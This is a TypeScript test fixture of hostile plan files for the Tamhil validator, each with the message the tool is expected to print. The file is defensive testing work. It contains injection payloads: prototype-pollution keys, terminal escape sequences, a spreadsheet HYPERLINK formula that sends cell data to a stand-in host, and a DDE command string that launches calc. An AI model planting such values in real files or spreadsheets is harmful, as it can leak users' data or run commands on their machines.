import { currentSchemaVersion } from '@shared/model/plan-schema.ts';
import { edited, nestedArrays, nestedObjects, sample, withRawJson, type Json } from './plan-text.ts';

/**
 * Plan files as an attacker or a broken program would write them, each with what Tamhil must
 * say about it. Made in code from the sample plan: the nested and the long ones would be
 * megabytes on disk, and a change to the sample reaches every case.
 */
export type HostilePlan = {
  name: string;
  /** The file's content: text, or bytes where the encoding is the point. */
  content: string | Uint8Array;
  /** What `tamhil validate` prints after the file's name on stderr, in English; null for a plan that reads. */
  refusal: string | null;
  /** For a plan that reads: the first line of validate's report after the file's name, as the terminal gets it. */
  heading?: string;
};

const damaged = (path: string, problem: string) => `The plan is damaged: the field ${path} ${problem}.`;
const reserved = (path: string) => damaged(path, 'is a reserved name, which cannot serve as an id');
const tooDeep = (path: string, found: string) => `The plan is damaged: at ${path} it is nested ${found} levels deep, more than the 32 a plan can hold.`;
const notJson = 'This is not a Tamhil plan file: its content is damaged or is not JSON.';
const notAPlan = 'This is not a Tamhil plan file: it has no schemaVersion field.';
const heading = 'גבעת הדקלים 2027';

const text = (content: string) => new TextEncoder().encode(content);
const utf16le = (content: string) => {
  const bytes = new Uint8Array(2 + content.length * 2);
  bytes.set([0xff, 0xfe]);
  for (let index = 0; index < content.length; index++) new DataView(bytes.buffer).setUint16(2 + index * 2, content.charCodeAt(index), true);
  return bytes;
};

export const hostilePlans: readonly HostilePlan[] = [
  // Nesting: refused by the reader before anything recursive touches the value.
  {
    name: '3,000 nested arrays in the submitted copy',
    content: withRawJson((plan, marker) => (plan.review.submittedPlan = { schemaVersion: currentSchemaVersion, deep: marker }), nestedArrays(3_000)),
    refusal: tooDeep('review.submittedPlan.deep[0][0][0]…', '3,003'),
  },
  {
    name: '100,000 nested arrays at the root',
    content: withRawJson((plan, marker) => (plan.extra = marker), nestedArrays(100_000)),
    refusal: tooDeep('extra[0][0][0][0][0]…', '100,001'),
  },
  {
    name: '5,000 nested objects in the details',
    content: withRawJson((plan, marker) => (plan.details.note = marker), nestedObjects(5_000)),
    refusal: tooDeep('details.note.a.a.a.a…', '5,002'),
  },
  {
    name: 'nested arrays where a list of texts belongs',
    content: withRawJson((plan, marker) => (plan.leadingValues = marker), nestedArrays(40)),
    refusal: tooDeep('leadingValues[0][0][0][0][0]…', '41'),
  },
  {
    name: 'one level past the limit in an unknown field',
    content: withRawJson((plan, marker) => (plan.extra = marker), nestedArrays(32)),
    refusal: tooDeep('extra[0][0][0][0][0]…', '33'),
  },
  {
    name: 'nesting up to the limit in an unknown field, which is dropped',
    content: withRawJson((plan, marker) => (plan.extra = marker), nestedArrays(31)),
    refusal: null,
    heading,
  },
  // Lengths and sizes.
  {
    name: 'a million-character authority',
    content: edited((plan) => (plan.details.authority = 'א'.repeat(1_000_000))),
    refusal: 'The plan is damaged: at details.authority it holds a text of 1,000,000 characters, more than the 700,000 any field of a plan can hold.',
  },
  {
    name: 'a long text in an unknown field',
    content: edited((plan) => (plan.padding = 'x'.repeat(700_001))),
    refusal: 'The plan is damaged: at padding it holds a text of 700,001 characters, more than the 700,000 any field of a plan can hold.',
  },
  {
    name: 'a note longer than its field, within the reader\'s limit',
    content: edited((plan) => ((plan.stations as Record<string, Json>)['current-state']!.notes = 'n'.repeat(20_001))),
    refusal: damaged('stations.current-state.notes', 'is too big (at most 20000)'),
  },
  {
    name: 'a field name of 101 characters',
    content: edited((plan) => (plan.details[`k${'e'.repeat(100)}`] = 1)),
    refusal: "The plan is damaged: at details it holds a field name of 101 characters, more than the 100 of a plan's field names.",
  },
  {
    name: 'a field name of a million characters, which the message does not repeat',
    content: edited((plan) => (plan['n'.repeat(1_000_000)] = 1)),
    refusal: "The plan is damaged: at (root) it holds a field name of 1,000,000 characters, more than the 100 of a plan's field names.",
  },
  // Ids that are the names every JavaScript object holds.
  ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'].map(
    (id): HostilePlan => ({ name: `a service with the id ${id}`, content: edited((plan) => (plan.services[0]!.id = id)), refusal: reserved('services[0].id') }),
  ),
  {
    name: 'a budget column with the id constructor',
    content: edited((plan) => (plan.budgetColumns = [{ id: 'constructor', label: 'הסעות', formula: null }])),
    refusal: reserved('budgetColumns[0].id'),
  },
  {
    name: 'a budget column isPrototypeOf with values in it',
    content: edited((plan) => {
      plan.budgetColumns = [{ id: 'isPrototypeOf', label: 'הסעות', formula: null }];
      plan.services[0]!.custom = [{ columnId: 'isPrototypeOf', value: 5 }];
    }),
    refusal: reserved('services[0].custom[0].columnId'),
  },
  {
    name: 'an age band with the id valueOf',
    content: edited((plan) => (plan.population.bands[0]!.id = 'valueOf')),
    refusal: reserved('population.bands[0].id'),
  },
  {
    name: 'a need with the id __defineGetter__',
    content: edited((plan) => ((plan.needs as Json[])[0]!.id = '__defineGetter__')),
    refusal: reserved('needs[0].id'),
  },
  {
    name: 'a reserved id inside the submitted copy',
    content: edited((plan) => {
      const copy = sample();
      copy.services[0]!.id = 'toLocaleString';
      plan.review.submittedPlan = copy;
    }),
    refusal: reserved('review.submittedPlan.services[0].id'),
  },
  {
    name: 'a __proto__ key at the root, trying to give every object a schemaVersion',
    content: edited((plan) => Object.defineProperty(plan, '__proto__', { value: { schemaVersion: 1, polluted: true }, enumerable: true })),
    refusal: null,
    heading,
  },
  {
    name: 'constructor.prototype keys in the details',
    content: edited((plan) => Object.assign(plan.details, JSON.parse('{"constructor": {"prototype": {"polluted": true}}}'))),
    refusal: null,
    heading,
  },
  // The submitted copy is a plan itself.
  {
    name: 'a submitted copy that is text',
    content: edited((plan) => (plan.review.submittedPlan = 'the plan')),
    refusal: damaged('review.submittedPlan', 'has the wrong type (expected object)'),
  },
  {
    name: 'a submitted copy holding a copy of its own',
    content: edited((plan) => {
      const copy = sample();
      copy.review.submittedPlan = sample();
      plan.review.submittedPlan = copy;
    }),
    refusal: damaged('review.submittedPlan.review.submittedPlan', 'has the wrong type (expected null)'),
  },
  {
    name: 'a submitted copy of a future version',
    content: edited((plan) => (plan.review.submittedPlan = { ...sample(), schemaVersion: currentSchemaVersion + 1 })),
    refusal: damaged('review.submittedPlan.schemaVersion', `has a value that is not allowed (allowed: ${currentSchemaVersion})`),
  },
  {
    name: 'a submitted copy that is the sample itself',
    content: edited((plan) => (plan.review.submittedPlan = sample())),
    refusal: null,
    heading,
  },
  // Not a plan, or not JSON at all.
  { name: 'an empty file', content: '', refusal: notJson },
  { name: 'only spaces and line breaks', content: ' \n\t\r\n', refusal: notJson },
  { name: 'half a plan', content: edited(() => undefined).slice(0, 5_000), refusal: notJson },
  { name: 'a plan followed by garbage', content: `${edited(() => undefined)}\n}{`, refusal: notJson },
  { name: 'a plan with a comment', content: `// plan\n${edited(() => undefined)}`, refusal: notJson },
  { name: 'NaN in a number', content: edited((plan) => (plan.details.communityBudget = 1)).replace('"communityBudget": 1', '"communityBudget": NaN'), refusal: notJson },
  { name: 'Infinity in a number', content: edited((plan) => (plan.details.communityBudget = 1)).replace('"communityBudget": 1', '"communityBudget": Infinity'), refusal: notJson },
  { name: 'a JSON array', content: '[{"schemaVersion": 2}]', refusal: notAPlan },
  { name: 'JSON null', content: 'null', refusal: notAPlan },
  { name: 'a JSON string', content: '"schemaVersion"', refusal: notAPlan },
  { name: 'schemaVersion as text', content: edited((plan) => (plan.schemaVersion = '2')), refusal: notAPlan },
  { name: 'schemaVersion 2.5', content: edited((plan) => (plan.schemaVersion = 2.5)), refusal: notAPlan },
  {
    name: 'schemaVersion from the future',
    content: edited((plan) => (plan.schemaVersion = 99)),
    refusal: `The plan was saved by a newer Tamhil (format 99; this version reads up to ${currentSchemaVersion}). Update Tamhil to open it.`,
  },
  { name: 'schemaVersion 0', content: edited((plan) => (plan.schemaVersion = 0)), refusal: "The file's format (0) is not one Tamhil knows." },
  { name: 'schemaVersion -1e9', content: edited((plan) => (plan.schemaVersion = -1e9)), refusal: "The file's format (-1000000000) is not one Tamhil knows." },
  // Wrong types and numbers past their range.
  { name: 'services as an object', content: edited((plan) => (plan.services = { 0: plan.services[0] } as unknown as Json[])), refusal: damaged('services', 'has the wrong type (expected array)') },
  { name: 'a unit cost as text', content: edited((plan) => (plan.services[0]!.unitCost = '100')), refusal: damaged('services[0].unitCost', 'has the wrong type (expected number)') },
  { name: 'no details at all', content: edited((plan) => delete (plan as Partial<Json>).details), refusal: damaged('details', 'is missing') },
  { name: 'a number past a double (1e400)', content: edited((plan) => (plan.details.communityBudget = 1)).replace('"communityBudget": 1', '"communityBudget": 1e400'), refusal: damaged('details.communityBudget', 'has the wrong type (expected number)') },
  { name: 'a negative participant count', content: edited((plan) => (plan.services[0]!.participants = -1)), refusal: damaged('services[0].participants', 'is too small (at least 0)') },
  { name: 'a year far in the future', content: edited((plan) => (plan.details.year = 1e21)), refusal: damaged('details.year', 'is too big (at most 2100)') },
  { name: 'a number below the smallest double, which reads as 0', content: edited((plan) => (plan.services[0]!.staffHours = 1)).replace('"staffHours": 1,', '"staffHours": 1e-400,'), refusal: null, heading },
  // Duplicates.
  { name: 'a key written twice: the last one counts', content: edited(() => undefined).replace('"authority": "גבעת הדקלים",', '"authority": "רשות אחרת",\n    "authority": "גבעת הדקלים",'), refusal: null, heading },
  {
    name: 'two services with one id',
    content: edited((plan) => (plan.services[1]!.id = plan.services[0]!.id)),
    refusal: damaged('services[1].id', 'is not valid'),
  },
  // Encodings.
  { name: 'a byte-order mark', content: `\ufeff${edited(() => undefined)}`, refusal: null, heading },
  { name: 'two byte-order marks', content: `\ufeff\ufeff${edited(() => undefined)}`, refusal: notJson },
  { name: 'UTF-16 with its byte-order mark', content: utf16le(edited(() => undefined)), refusal: notJson },
  { name: 'a NUL byte between the fields', content: text(edited(() => undefined).replace('"id"', '\u0000"id"')), refusal: notJson },
  // Text meant for the terminal or a spreadsheet rather than for the reader.
  { name: 'a right-to-left override in the authority', content: edited((plan) => (plan.details.authority = '\u202eגבעת הדקלים')), refusal: null, heading: `\\u202e${heading}` },
  { name: 'bidi embeddings and marks in the authority', content: edited((plan) => (plan.details.authority = 'a\u202ab\u202bc\u202cd\u202de\u200ef\u200fg\u061ch')), refusal: null, heading: 'a\\u202ab\\u202bc\\u202cd\\u202de\\u200ef\\u200fg\\u061ch 2027' },
  { name: 'isolates in the authority', content: edited((plan) => (plan.details.authority = '\u2067גבעת\u2069 \u2066הדקלים\u2069\u2068')), refusal: null, heading },
  { name: 'an escape sequence that would retitle the terminal', content: edited((plan) => (plan.details.authority = '\u001b]0;pwned\u0007גבעת הדקלים')), refusal: null, heading: `\\u001b]0;pwned\\u0007${heading}` },
  { name: 'a C1 control sequence in the authority', content: edited((plan) => (plan.details.authority = 'גבעת\u009b31m הדקלים')), refusal: null, heading: 'גבעת\\u009b31m הדקלים 2027' },
  { name: 'a formula escape as a service name', content: edited((plan) => (plan.services[0]!.name = '=HYPERLINK("https://example.com/?"&A1,"click")')), refusal: null, heading },
  { name: 'a command as a service name', content: edited((plan) => (plan.services[0]!.name = "+cmd|' /C calc'!A0")), refusal: null, heading },
  { name: 'an @ formula and a tab in the notes', content: edited((plan) => (plan.services[0]!.notes = '@SUM(1+1)\t-2+3')), refusal: null, heading },
];
